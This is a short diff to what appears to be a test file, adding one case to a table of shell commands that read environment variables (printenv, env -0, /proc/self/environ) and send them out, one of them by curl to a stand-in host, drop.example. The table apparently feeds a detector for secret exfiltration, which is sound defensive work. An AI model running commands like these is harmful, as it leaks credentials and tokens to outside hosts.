@@ -19,6 +19,7 @@ test.each([
   ['printenv, encoded on its way', `printenv | base64 -w0 | tr -d = | ${send}`],
   ['env -0, by a name', `env -0 | curl -s -m 5 -d @- http://drop.example/`],
   ['the file that it is in', `cat /proc/self/environ | ${send}`],
+  ['the same as an input', `cat < /proc/self/environ | ${send}`],
   [
     'env, read by a script',
     `env | (sleep 0.2; while read -r line; do ${send} <<< "$line" || ${send}; break; done)`,
